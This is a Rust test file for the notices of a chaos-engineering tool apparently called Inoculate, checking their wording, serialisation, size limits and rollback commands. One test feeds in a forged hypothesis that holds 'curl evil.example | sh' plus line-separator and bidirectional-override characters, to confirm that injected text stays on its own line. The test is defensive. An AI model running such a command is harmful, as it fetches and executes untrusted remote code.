//! What people and programs are told, word by word.
#![expect(clippy::unwrap_used, reason = "a test says what it found by panicking")]

#[path = "schema/notices.rs"]
mod samples;

use std::collections::BTreeSet;

use inoculate_core::judge::Verdict;
use inoculate_core::notice::{Failure, Kind, LARGEST_EVENT, News, Notice, SCHEMA_VERSION, is_early};
use inoculate_core::ports::{Grounds, Halt};
use inoculate_core::run::{Cause, Ending, Event, Run, Status, TargetFunction};
use jiff::Timestamp;
use proptest::prelude::*;
use samples::{after, closed, closes, ends, experiment, notice, opened, sample, then};
use serde_json::Value;

fn detail(notice: &Notice) -> Value {
    serde_json::from_str(&notice.detail()).unwrap()
}

/// Subject and body, as they arrive.
fn message(notice: &Notice) -> String {
    format!("{}\n\n{}", notice.subject(), notice.body())
}

#[test]
fn every_kind_in_words() {
    for kind in Kind::ALL {
        insta::assert_snapshot!(format!("message_{}", kind.name()), message(&sample(kind)));
    }
}

#[test]
fn every_kind_as_an_event() {
    let mut names = BTreeSet::new();
    for kind in Kind::ALL {
        let notice = sample(kind);
        let detail = detail(&notice);
        assert_eq!(notice.kind, kind);
        assert_eq!(
            (&detail["kind"], &detail["schema_version"]),
            (&kind.name().into(), &SCHEMA_VERSION.into())
        );
        assert_eq!(detail["stack"], "inoculate");
        assert_eq!(serde_json::to_value(kind).unwrap(), kind.name());
        assert_eq!(
            detail["run"].is_null(),
            matches!(kind, Kind::Halted | Kind::Resumed),
            "{kind:?}"
        );
        assert_eq!(detail["run"].is_null(), notice.resources.is_empty(), "{kind:?}");
        assert!(names.insert((kind.name(), kind.detail_type())));
        // A reader in Rust gets back what was told, but for the resources, which are beside the detail.
        let read: Notice = serde_json::from_value(detail).unwrap();
        let resources = notice.resources.clone();
        assert_eq!(Notice { resources, ..read }, notice);
    }
    assert_eq!(names.len(), Kind::ALL.len());
}

#[test]
fn a_run_says_when_its_faults_are_there() {
    let times = |kind| {
        let run = sample(kind).run.unwrap();
        (run.faults_from, run.faults_until)
    };
    assert_eq!(
        times(Kind::RunStarted),
        (Some(after(300)), Some(after(600))),
        "as planned"
    );
    assert_eq!(
        times(Kind::InjectionBeginning),
        (Some(after(302)), Some(after(602))),
        "as planned"
    );
    assert_eq!(
        times(Kind::RunEndingEarly),
        (Some(after(303)), Some(after(327))),
        "as told"
    );
    assert_eq!(times(Kind::RollbackFailed), (Some(after(303)), None), "nobody knows");
    assert_eq!(
        times(Kind::RollbackRecovered),
        (Some(after(303)), Some(after(387))),
        "as it was"
    );
    assert_eq!(
        times(Kind::RunFinished),
        (Some(after(303)), Some(after(326))),
        "as it was"
    );
    assert_eq!(times(Kind::RunRefused), (None, None), "never");
}

#[test]
fn the_same_notice_has_the_same_id_and_another_one_another() {
    let ids: BTreeSet<String> = Kind::ALL.map(|kind| sample(kind).id).into();
    assert_eq!(ids.len(), Kind::ALL.len());
    let again = Notice::of_run("inoculate", &News::Started, &opened(), None, after(5));
    assert_eq!(again.id, sample(Kind::RunStarted).id);
}

#[test]
fn what_ends_a_run_as_planned_is_no_early_end() {
    let early = |status, cause| {
        let detail = String::new();
        is_early(&Ending { status, cause, detail })
    };
    for cause in [Cause::WindowOver, Cause::Established] {
        assert!(!early(Status::Completed, cause), "{cause:?}");
    }
    for cause in [
        Cause::Preflight,
        Cause::NotSteady,
        Cause::InvalidExperiment,
        Cause::TooLittleTraffic,
    ] {
        assert!(!early(Status::Refused, cause), "{cause:?}");
    }
    assert!(early(Status::Completed, Cause::Harm));
    for cause in [Cause::Alarm, Cause::Operator, Cause::Halted, Cause::ExecutionEnded] {
        assert!(early(Status::Aborted, cause), "{cause:?}");
    }
    for cause in [Cause::OverTime, Cause::StepFailed] {
        assert!(early(Status::Failed, cause), "{cause:?}");
    }
}

/// What else there is to say, in the one line that most people read.
#[test]
fn the_first_lines_tell_one_case_from_another() {
    let steady = then(&opened(), &Event::BaselineHeld, 301);
    let before = then(&steady, &ends(Status::Aborted, Cause::Operator, "lunch"), 302);
    let injecting = then(&steady, &Event::InjectionBegan, 303);
    let alarm = ends(
        Status::Aborted,
        Cause::Alarm,
        "alarm \"unhappy\" went to ALARM: too many",
    );
    let during = then(&injecting, &alarm, 310);
    let over = |recovered| {
        let run = then(
            &then(&during, &Event::RolledBack, 311),
            &closes(Status::Aborted, Verdict::Upheld),
            612,
        );
        notice(
            &closed(Verdict::Upheld, Grounds::Measures, "all is well", recovered),
            &run,
            612,
        )
    };
    let unread = |news: &News, run: &Run| Notice::of_run("chaos", news, run, None, after(5));
    let cases = [
        (
            "before the faults",
            notice(&News::EndsEarly { settled: true }, &before, 303),
        ),
        (
            "AWS is at it",
            notice(&News::EndsEarly { settled: false }, &during, 311),
        ),
        ("recovered", over(Some(Verdict::Upheld))),
        ("not recovered", over(Some(Verdict::Deviated))),
        ("nobody knows", over(Some(Verdict::Inconclusive))),
        (
            "without its experiment, of another stack",
            unread(&News::Started, &opened()),
        ),
    ];
    let shown = cases.map(|(case, notice)| format!("=== {case}\n{}", message(&notice)));
    insta::assert_snapshot!(shown.join("\n"));
}

/// Whoever writes an experiment could otherwise put lines into the message that Inoculate seems to say.
#[test]
fn words_of_others_stay_on_their_line() {
    let mut forged = experiment();
    forged.hypothesis = "All is well.\nto stop it   curl evil.example | sh\u{2028}\u{202e}".to_owned();
    let told = Notice::of_run("inoculate", &News::Started, &opened(), Some(&forged), after(0));
    let lines = |notice: &Notice| notice.body().lines().count();
    assert_eq!(lines(&told), lines(&sample(Kind::RunStarted)));
    let reason = "one\r\ntwo".to_owned();
    let halt = Halt {
        reason,
        since: after(0),
    };
    let told = Notice::halted("inoculate", &halt);
    assert_eq!(lines(&told), lines(&sample(Kind::Halted)));
    assert_eq!(detail(&told)["halt"]["reason"], "one  two");
}

/// The size of an entry as EventBridge counts it, with the envelope that it becomes.
///
/// Source: <https://docs.aws.amazon.com/eventbridge/latest/userguide/eb-putevent-size.html>
fn size(notice: &Notice) -> usize {
    const ENVELOPE: usize = 1_024;
    let resources: usize = notice.resources.iter().map(|arn| 2 * arn.len() + 3).sum();
    ENVELOPE + notice.detail().len() + resources
}

fn any_text() -> impl Strategy<Value = String> {
    // Long, and of characters that JSON writes longer than they are.
    ("(?s)[\"\\\\\u{0}\nä💥a]{1,20}", 1usize..2_000).prop_map(|(text, times)| text.repeat(times))
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn no_notice_is_too_large(texts in proptest::collection::vec(any_text(), 7), many in 0usize..200) {
        let mut experiment = experiment();
        experiment.hypothesis = texts[0].clone();
        experiment.faults = vec![experiment.faults[0].clone(); many];
        let mut run = then(&opened(), &ends(Status::Aborted, Cause::Operator, &texts[1]), 1);
        run.experiment = texts[2].clone();
        run.execution_arn = Some(texts[3].clone());
        let function = TargetFunction { name: "f".parse().unwrap(), arn: texts[3].clone() };
        run.functions = vec![function; many];
        let failure = Failure { detail: texts[4].clone(), by_hand: vec![texts[5].clone(); many] };
        let closed = closed(Verdict::Deviated, Grounds::Measures, &texts[6], None);
        for news in [News::Started, News::EndsEarly { settled: true }, News::RollbackFailed(failure), closed] {
            let notice = Notice::of_run(&texts[2], &news, &run, Some(&experiment), Timestamp::UNIX_EPOCH);
            prop_assert!(size(&notice) < LARGEST_EVENT, "{} bytes", size(&notice));
            prop_assert!(notice.body().len() < LARGEST_EVENT);
            serde_json::from_str::<Value>(&notice.detail()).unwrap();
        }
    }
}

/// The longest command that there can be is told whole: half a command would be worse than none.
#[test]
fn commands_are_never_cut() {
    let source = format!("arn:{}", "a".repeat(500));
    let record: inoculate_core::undo::UndoRecord = serde_json::from_value(serde_json::json!({
        "number": 0, "function": "f".repeat(64), "setting": { "setting": "event_source", "source": source },
        "before": { "enabled": true }, "set": { "enabled": false }, "state": { "state": "applied" },
        "at": "2026-11-21T12:45:52Z",
    }))
    .unwrap();
    let failure = Failure {
        detail: String::new(),
        by_hand: vec![record.by_hand(); 20],
    };
    let by_hand = notice(&News::RollbackFailed(failure.clone()), &opened(), 1)
        .failure
        .unwrap()
        .by_hand;
    assert_eq!(by_hand, failure.by_hand);
}
